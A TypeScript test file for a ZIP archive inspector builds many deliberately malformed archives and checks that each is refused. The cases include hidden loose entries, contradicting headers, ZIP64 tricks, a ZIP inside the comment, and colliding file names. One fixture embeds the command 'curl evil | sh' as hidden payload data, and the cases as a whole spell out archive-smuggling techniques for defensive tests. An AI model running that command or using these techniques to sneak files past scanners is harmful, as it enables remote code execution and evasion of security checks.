import { writeFile } from "node:fs/promises";
import { join } from "node:path";

import { expect, test } from "vitest";

import { inspectZip } from "~/integrations/packages/zip-inspection.server";

import { testCtx } from "../../support/ctx";
import {
  localOf,
  README,
  unicodePath,
  zipOf,
  type ZipEntry,
} from "../../support/given-packages";

const HIDDEN = localOf({ name: "hidden.sh", data: "curl evil | sh" });
const withReadme = (...entries: ZipEntry[]) => zipOf([README, ...entries]);
const named = (...names: string[]) =>
  withReadme(...names.map((name) => ({ name })));
const run: ZipEntry = { name: "run.js", data: "run()\nrun()\n", deflate: true };

/** Two directory entries, the second of which begins inside the first. */
function overlapping(): Buffer {
  const inner: ZipEntry = { name: "inner", data: "x" };
  const outer: ZipEntry = { name: "outer", data: localOf(inner) };
  const zip = withReadme(outer, inner);
  const at = zip.lastIndexOf("inner") - 46 + 42;
  const innerAt = localOf(README).length + 30 + "outer".length;
  zip.writeUInt32LE(innerAt, at);
  return zip;
}

function endSaying(position: number, value: number) {
  return (end: Buffer) => {
    end.writeUInt16LE(value, position);
    return end;
  };
}

function commented(comment: Buffer) {
  return (end: Buffer) => {
    end.writeUInt16LE(comment.length, 20);
    return Buffer.concat([end, comment]);
  };
}

/** A ZIP64 end record with one entry, before the short one. */
function wideEnd(end: Buffer): Buffer {
  const [size, start] = [end.readUInt32LE(12), end.readUInt32LE(16)];
  const wide = Buffer.alloc(76);
  wide.write("PK\x06\x06", 0, "latin1");
  wide.writeUInt32LE(44, 4);
  wide.writeUInt32LE(1, 24);
  wide.writeUInt32LE(1, 32);
  wide.writeUInt32LE(size, 40);
  wide.writeUInt32LE(start, 48);
  wide.write("PK\x06\x07", 56, "latin1");
  wide.writeUInt32LE(start + size, 64);
  wide.writeUInt32LE(1, 72);
  return Buffer.concat([wide, end]);
}

const LOOSE = /bytes that belong to none of its files/;
const TWO_THINGS = /contradicts itself about a file/;
const MORE = /more than its directory lists/;

const HOSTILE: [what: string, make: () => Buffer, reason: RegExp][] = [
  [
    "a file between two listed ones",
    () => zipOf([{ ...README, loose: HIDDEN }, run]),
    LOOSE,
  ],
  [
    "a file behind the last one",
    () => withReadme({ ...run, loose: HIDDEN }),
    LOOSE,
  ],
  [
    "a file before the first one",
    () => zipOf([README, run], { before: HIDDEN }),
    LOOSE,
  ],
  ["one loose byte", () => withReadme({ ...run, loose: Buffer.of(0) }), LOOSE],
  ["entries that overlap", overlapping, LOOSE],
  [
    "a file behind a compressed one, in its bytes",
    () => withReadme({ ...run, padding: HIDDEN }),
    /hides bytes behind the content of "run.js"/,
  ],
  [
    "a file inside a stored one of unknown length",
    () => withReadme({ name: "a", data: HIDDEN, descriptor: 16 }),
    /does not say where a stored file ends: "a"/,
  ],
  [
    "another checksum in the file's own header",
    () => withReadme({ ...run, own: { crc32: 7 } }),
    TWO_THINGS,
  ],
  [
    "another method in the file's own header",
    () => withReadme({ ...run, own: { method: 0 } }),
    TWO_THINGS,
  ],
  [
    "a descriptor that only the file's own header announces",
    () => withReadme({ ...run, own: { flags: 0x808 } }),
    TWO_THINGS,
  ],
  [
    "another name in the file's own header, for some programs",
    () => withReadme({ ...run, own: { extra: unicodePath("../run.js") } }),
    TWO_THINGS,
  ],
  [
    "an announced descriptor that is missing",
    () => withReadme({ ...run, descriptor: Buffer.alloc(0) }),
    LOOSE,
  ],
  [
    "a descriptor that says something else",
    () => withReadme({ ...run, descriptor: Buffer.alloc(12) }),
    TWO_THINGS,
  ],
  [
    "a descriptor and a file behind it",
    () => withReadme({ ...run, descriptor: 16, loose: HIDDEN }),
    LOOSE,
  ],
  [
    "bytes behind the end",
    () => Buffer.concat([withReadme(run), HIDDEN]),
    /not a ZIP/,
  ],
  [
    "bytes between directory and end",
    () => zipOf([README, run], { end: (end) => Buffer.concat([HIDDEN, end]) }),
    MORE,
  ],
  [
    "fewer entries on the disk than in all",
    () => zipOf([README, run], { end: endSaying(8, 1) }),
    MORE,
  ],
  [
    "a directory of another size",
    () => zipOf([README, run], { end: endSaying(12, 50) }),
    MORE,
  ],
  [
    "another directory for programs that read ZIP64",
    () => zipOf([README, run], { end: wideEnd }),
    MORE,
  ],
  [
    "a ZIP in the comment",
    () => zipOf([README, run], { end: commented(HIDDEN) }),
    /comment looks like part of a ZIP/,
  ],
  [
    "names that differ in case",
    () => named("Run.js", "run.js"),
    /some systems treat as the same/,
  ],
  [
    "folders that differ in case",
    () => named("A/x", "a/y"),
    /some systems treat as the same/,
  ],
  [
    "names that differ in composition",
    () => named("\u00e9", "e\u0301"),
    /some systems treat as the same/,
  ],
  [
    "names that Windows takes for one",
    () => named("a.txt", "a.txt."),
    /some systems treat as the same/,
  ],
  ["one name by a detour", () => named("a/x", "a/./x"), /the same name twice/],
  [
    "a file that is a folder too",
    () => named("a", "a/x"),
    /a file and a folder/,
  ],
  [
    "a folder that is a file too",
    () => named("a/x", "A"),
    /a file and a folder/,
  ],
];

test.each(HOSTILE)("%s: refused", async (_what, make, reason) => {
  const { dataDir } = await testCtx();
  const path = join(dataDir, "hostile.zip");
  await writeFile(path, make());

  expect(await inspectZip(path)).toEqual({
    reason: expect.stringMatching(reason) as string,
  });
});
